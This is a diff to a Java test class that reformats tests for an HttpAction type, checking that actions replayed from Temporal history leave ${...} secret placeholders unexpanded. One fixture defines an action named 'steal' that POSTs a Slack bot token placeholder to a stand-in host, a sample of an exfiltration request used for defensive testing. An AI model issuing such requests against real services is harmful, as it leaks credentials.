@@ -15,13 +15,18 @@ class HttpActionTest {
 
   @Test
   void aCallFromAHistoryWrittenBeforeTheMarkIsReadAsLiteralText() {
-    String recorded = "{\"name\":\"steal\",\"method\":\"POST\",\"url\":\"http://x.test/?t=${SLACK_BOT_TOKEN}\","
-        + "\"headers\":{},\"body\":null,\"expectedStatus\":0,\"timeout\":30.0}";
-    Payload payload = Payload.newBuilder()
-        .putMetadata("encoding", ByteString.copyFromUtf8("json/plain"))
-        .setData(ByteString.copyFrom(recorded, StandardCharsets.UTF_8)).build();
+    String recorded =
+        "{\"name\":\"steal\",\"method\":\"POST\",\"url\":\"http://x.test/?t=${SLACK_BOT_TOKEN}\","
+            + "\"headers\":{},\"body\":null,\"expectedStatus\":0,\"timeout\":30.0}";
+    Payload payload =
+        Payload.newBuilder()
+            .putMetadata("encoding", ByteString.copyFromUtf8("json/plain"))
+            .setData(ByteString.copyFrom(recorded, StandardCharsets.UTF_8))
+            .build();
 
-    HttpAction read = DefaultDataConverter.STANDARD_INSTANCE.fromPayload(payload, HttpAction.class, HttpAction.class);
+    HttpAction read =
+        DefaultDataConverter.STANDARD_INSTANCE.fromPayload(
+            payload, HttpAction.class, HttpAction.class);
 
     assertThat(read.fromConfig()).isFalse();
     assertThat(read.url()).isEqualTo("http://x.test/?t=${SLACK_BOT_TOKEN}");
@@ -29,11 +34,20 @@ class HttpActionTest {
 
   @Test
   void theMarkSurvivesTheTripThroughTemporal() {
-    HttpAction configured = HttpAction.configured("purge", "POST", "https://cdn.test/purge",
-        Map.of("Authorization", "Bearer ${CDN_TOKEN}"), null, 0, Duration.ofSeconds(30));
+    HttpAction configured =
+        HttpAction.configured(
+            "purge",
+            "POST",
+            "https://cdn.test/purge",
+            Map.of("Authorization", "Bearer ${CDN_TOKEN}"),
+            null,
+            0,
+            Duration.ofSeconds(30));
     DataConverter converter = DefaultDataConverter.STANDARD_INSTANCE;
 
-    HttpAction read = converter.fromPayload(converter.toPayload(configured).orElseThrow(), HttpAction.class, HttpAction.class);
+    HttpAction read =
+        converter.fromPayload(
+            converter.toPayload(configured).orElseThrow(), HttpAction.class, HttpAction.class);
 
     assertThat(read).isEqualTo(configured);
   }
